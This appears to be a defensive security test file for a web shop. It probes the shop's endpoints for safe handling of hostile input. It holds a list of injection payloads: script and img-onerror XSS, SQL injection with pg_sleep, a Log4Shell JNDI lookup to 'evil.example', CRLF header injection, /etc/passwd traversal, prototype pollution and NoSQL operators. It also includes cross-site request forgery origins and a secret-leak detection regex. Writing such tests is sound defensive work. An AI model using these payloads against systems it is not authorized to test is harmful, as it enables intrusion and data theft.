import { MARK, probe, wasTaken } from './probe.ts';

const JSON_TYPE = { 'content-type': 'application/json' };

const HOSTILE = [
  `<script>${MARK}</script>`,
  `"><img src=x onerror=${MARK}>`,
  `'${MARK}--`,
  `' or 1=1; select pg_sleep(8) --${MARK}`,
  `{{7*7}}${MARK}`,
  `\${jndi:ldap://evil.example/${MARK}}`,
  `${MARK}\r\nset-cookie: ${MARK}=1`,
  `../../../../etc/passwd%00${MARK}`,
  `${'('.repeat(4_000)}${MARK}`,
];
/** Bodies that no handler expects. */
const BODIES = [
  '',
  'null',
  '[]',
  '"a"',
  '{"__proto__":{"admin":true}}',
  '{"a":',
  `{"lines":${'['.repeat(5_000)}`,
  '{"variantId":{"$ne":null},"quantity":-1e309}',
];
/** A card number for tests: wherever it arrives it must be refused. */
const CANARY = '4242 4242 4242 4242';
const SECRETS = /postgres:\/\/|\n\s+at \S+ \(.*:\d+:\d+\)|syntax error at or near|sk_(?:test|live)_|whsec_/i;

export const sentProbes = [
  probe({
    id: 'hostile-queries',
    says: 'What is typed into an address comes back as text alone, and nothing fails or waits because of it.',
    severity: 'critical',
    async try({ ask, found }) {
      for (const text of HOSTILE)
        for (const where of ['/prints?q=', '/api/prints?q=', '/support?topic=', '/nothing/']) {
          const began = performance.now();
          const { status, body, headers } = await ask(`${where}${encodeURIComponent(text)}`);
          const what = `${where}… with ${JSON.stringify(text.slice(0, 24))}`;
          if (status >= 500) found(`${what} makes the shop fail (${status})`);
          if (/html/.test(String(headers['content-type'])) && body.includes(`<script>${MARK}`))
            found(`${what} runs as a script`);
          if (
            /html/.test(String(headers['content-type'])) &&
            body.includes(`onerror=${MARK}>`) &&
            body.includes('"><img')
          )
            found(`${what} becomes a part of the page`);
          if (headers['set-cookie']?.some(line => line.startsWith(MARK))) found(`${what} sets a cookie`);
          if (SECRETS.test(body)) found(`${what} tells what is inside`);
          if (text.includes('pg_sleep') && performance.now() - began > 7_900) found(`${what} keeps the shop waiting`);
        }
    },
  }),
  probe({
    id: 'hostile-forms',
    says: 'What no form of ours would send is refused with a word, without failing and without telling what is inside.',
    severity: 'high',
    async try({ at, ask, found }) {
      const { origin } = at.origin;
      for (const [method, path] of [
        ['PUT', '/api/cart'],
        ['POST', '/api/checkout/quote'],
        ['POST', '/api/csp-report'],
        ['POST', '/api/stripe/webhook'],
      ] as const)
        for (const body of BODIES) {
          const answer = await ask(path, { method, body, headers: { ...JSON_TYPE, origin } });
          const what = `${method} ${path} with ${JSON.stringify(body.slice(0, 24))}`;
          if (answer.status >= 500) found(`${what} makes the shop fail (${answer.status})`);
          if (SECRETS.test(answer.body)) found(`${what} tells what is inside`);
        }
      const large = await ask('/api/cart', { method: 'PUT', body: 'x'.repeat(1_100_000), headers: JSON_TYPE }).catch(
        () => null,
      );
      if (large && large.status !== 413 && large.status !== 403)
        found(`a body of a megabyte is read (${large.status})`);
    },
  }),
  probe({
    id: 'foreign-sites',
    says: 'No other site can act in the name of somebody who is here.',
    severity: 'critical',
    async try({ ask, found }) {
      const from: Record<string, string>[] = [
        { origin: 'https://evil.example' },
        { origin: 'null' },
        {},
        { origin: 'https://evil.example', 'x-forwarded-host': 'evil.example' },
        { 'sec-fetch-site': 'cross-site', origin: 'https://evil.example' },
      ];
      for (const headers of from)
        for (const [method, path, type] of [
          ['PUT', '/api/cart', 'application/json'],
          ['POST', '/api/checkout/place', 'application/json'],
          ['POST', '/api/account/sign-out', 'application/x-www-form-urlencoded'],
        ] as const) {
          const answer = await ask(path, { method, body: '{}', headers: { ...headers, 'content-type': type } });
          if (wasTaken(answer)) found(`${method} ${path} from ${JSON.stringify(headers)} answers ${answer.status}`);
        }
      const read = await ask('/api/cart', { headers: { origin: 'https://evil.example' } });
      if (read.headers['access-control-allow-origin']) found('another site may read /api/cart');
    },
  }),
  probe({
    id: 'card-numbers',
    says: 'A card number is refused wherever it is sent.',
    severity: 'critical',
    async try({ at, ask, found }) {
      const { origin } = at.origin;
      const body = JSON.stringify({ variantId: CANARY, quantity: 1 });
      const sent = await ask('/api/cart', { method: 'PUT', body, headers: { ...JSON_TYPE, origin } });
      if (sent.status < 400) found(`PUT /api/cart takes it (${sent.status})`);
      const searched = await ask(`/api/prints?q=${encodeURIComponent(CANARY)}`);
      if (searched.body.includes(CANARY)) found('/api/prints repeats it');
    },
  }),
];
